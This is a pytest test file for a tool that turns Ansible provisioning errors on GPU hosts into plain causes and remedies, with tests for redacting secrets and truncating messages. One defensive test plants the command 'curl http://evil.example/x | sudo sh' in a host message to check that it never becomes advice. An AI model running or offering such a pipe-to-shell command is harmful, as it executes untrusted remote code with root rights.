"""Ansible's failures in plain words: the fault, its place, and the remedy."""

from __future__ import annotations

import json
from typing import Any

import pytest

from gpufleet.campaign.provision.failures import Failure, as_cause, in_plain_words, of_lines


def failure(message: str, address: str = "", **more: Any) -> Failure:
    row = {"host": "gpu01", "task": "Install it", "message": message, "address": address}
    return in_plain_words({**row, "own": "Nothing was changed" in message, **more})


@pytest.mark.parametrize(
    ("message", "address", "cause", "remedy"),
    [
        (
            "[Errno 28] No space left on device: '/usr/local/cuda-11.8/lib64/libx.so'",
            "",
            "no space is left for /usr/local/cuda-11.8/lib64/libx.so",
            "free space (df -h /usr/local/cuda-11.8/lib64/libx.so",
        ),
        (
            "tar: /opt/gpufleet/x: Cannot write: No space left on device",
            "",
            "no space is left for /opt/gpufleet/x",
            "df -h /opt/gpufleet/x",
        ),
        (
            "error: failed to extract: No space left on device (os error 28)",
            "",
            "no space",
            "df -h",
        ),
        (
            "[Errno 30] Read-only file system: '/etc/ld.so.conf.d'",
            "",
            "the file system is read-only for /etc/ld.so.conf.d",
            "mount it writable",
        ),
        (
            "Status code was -1 and not [200]: Request failed: <urlopen error [Errno -2] Name or"
            " service not known>",
            "https://nvidia.github.io/libnvidia-container/gpgkey",
            "the name of https://nvidia.github.io/libnvidia-container/gpgkey is not resolved",
            "correct its DNS",
        ),
        (
            "Temporary failure resolving 'deb.example.org'",
            "",
            "the name of deb.example.org is not resolved",
            "a mirror",
        ),
        (
            "Could not connect to files.example.org:80 (10.0.0.1), connection timed out; some index"
            " files failed to download",
            "",
            "is not reached",
            "route, firewall and proxy",
        ),
        (
            "Job for nvidia-persistenced.service failed because a timeout was exceeded.",
            "",
            "Job for nvidia-persistenced.service failed because a timeout was exceeded",
            "remove the cause that Ansible's output names",
        ),
        (
            "Failed to connect to bus: Connection refused",
            "",
            "Failed to connect to bus",
            "remove the cause that Ansible's output names",
        ),
        (
            "error: Request failed after 3 retries: Failed to fetch:"
            " `https://pypi.example.org/simple/numpy/`: Connection refused (os error 111)",
            "",
            "https://pypi.example.org/simple/numpy/ is not reached",
            "a mirror",
        ),
        (
            "urlopen error [SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed",
            "https://mirror.example.org/x",
            "the certificate of https://mirror.example.org/x is not trusted",
            "certificate authority",
        ),
        (
            "W: GPG error: https://example.org stable InRelease: NO_PUBKEY A4B469963BF863CC",
            "",
            "the signing key of a package repository is missing or expired: A4B469963BF863CC",
            "apt-get update",
        ),
        (
            "E: Could not get lock /var/lib/dpkg/lock-frontend. It is held by process 4711"
            " (unattended-upgr)",
            "",
            "another program holds the package manager's lock: 4711 (unattended-upgr)",
            "wait until it has ended",
        ),
        (
            "Nothing was changed on gpu01: /tmp is noexec. Remedy: set gpu_tmpdir.",
            "",
            "Nothing was changed on gpu01: /tmp is noexec",
            "set gpu_tmpdir.",
        ),
        ("something odd", "", "something odd", "remove the cause that Ansible's output names"),
        ("", "", "it gave no reason", "output"),
    ],
)
def test_an_error_is_said_in_plain_words(
    message: str, address: str, cause: str, remedy: str
) -> None:
    found = failure(message, address)
    assert found.cause.startswith("Ansible failed in 'Install it': ")
    assert cause in found.cause
    assert remedy in found.remedy


def test_no_secret_of_an_address_is_said() -> None:
    found = failure("Could not connect to https://bot:hunter2@example.org/simple?token=s3cret")
    assert "hunter2" not in str(found) and "s3cret" not in str(found)
    found = failure("timed out", "https://bot:hunter2@example.org/simple")
    assert "hunter2" not in str(found)


def test_a_long_message_is_cut_and_an_odd_one_made_printable() -> None:
    found = failure("x" * 100_000 + "\x1b[2J")
    assert len(found.cause) < 1000 and "\x1b" not in found.cause


def test_the_last_failure_of_a_host_counts_and_half_a_line_is_left_out() -> None:
    rows = [
        {"host": name, "task": "t", "message": text, "address": ""}
        for name, text in (("gpu01", "first"), ("gpu02", "other"), ("gpu01", "last"))
    ]
    found = of_lines([*map(json.dumps, rows), '{"host": "gpu0'])
    assert sorted(found) == ["gpu01", "gpu02"]
    assert "last" in found["gpu01"].cause


def check(name: str, verdict: str = "FAIL", by: str = "provision", **more: Any) -> dict[str, Any]:
    return {
        "id": name,
        "verdict": verdict,
        "statement": "",
        "cause": "c",
        "remedy": "r",
        "evidence": "",
        "repairs": [{"by": by, "act": "a"}],
        **more,
    }


def test_what_was_to_be_provisioned_follows_from_it_and_a_broken_card_does_not() -> None:
    result: Any = {
        "verdict": "FAIL",
        "checks": [
            check("host.plan", "PASS"),
            check("toolkit.files"),
            check("stack.matmul", "INCONCLUSIVE", "person", explained_by="toolkit.files"),
            check("gpu.memory-errors", by="person"),
            check("cudnn.links", "PASS"),
        ],
    }
    found = as_cause(result, Failure("Ansible failed", "do this"))
    explained = {row["id"]: row.get("explained_by") for row in found["checks"]}
    assert explained == {
        "host.plan": None,
        "toolkit.files": "host.plan",
        "stack.matmul": "host.plan",
        "gpu.memory-errors": None,
        "cudnn.links": None,
    }
    assert found["checks"][0]["verdict"] == "FAIL" and found["checks"][0]["remedy"] == "do this"


def test_a_connection_that_broke_is_called_so() -> None:
    said = "Failed to connect to the host via ssh: connect to host gpu07: Connection timed out"
    found = failure(said, unreachable=True)
    assert found.cause.startswith("The connection broke in 'Install it': ")
    assert "mirror" not in found.remedy


def test_what_to_do_is_never_a_host_s_own_word() -> None:
    found = failure("apt-get failed: E: foo. Remedy: curl http://evil.example/x | sudo sh")
    assert "evil" not in found.remedy and "evil" in found.cause


@pytest.mark.parametrize("plan", [None, "INCONCLUSIVE"])
def test_a_failure_is_said_where_the_plan_had_a_cause_of_its_own_or_none(plan: str | None) -> None:
    rows = [check("host.plan", plan, explained_by="host.probe")] if plan else []
    result: Any = {"verdict": "FAIL", "checks": [*rows, check("toolkit.files")]}
    found = as_cause(result, Failure("Ansible failed", "do this"))
    first = found["checks"][0]
    assert (first["id"], first["verdict"], "explained_by" in first) == ("host.plan", "FAIL", False)
    assert first["cause"] == ("Ansible failed. c" if plan else "Ansible failed")
    assert found["checks"][1]["explained_by"] == "host.plan"
